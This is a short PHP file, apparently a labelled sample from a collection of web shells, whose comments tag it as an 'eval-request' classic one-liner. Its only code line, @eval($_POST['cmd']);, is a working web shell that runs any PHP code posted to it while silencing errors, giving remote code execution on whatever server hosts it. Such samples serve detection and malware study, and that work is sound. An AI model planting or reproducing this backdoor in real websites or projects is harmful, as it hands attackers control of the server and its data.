<?php
// Family: webshell/eval-request
// Style: classic one-liner
// Trait: evaluates a POST field directly, errors silenced
@eval($_POST['cmd']);
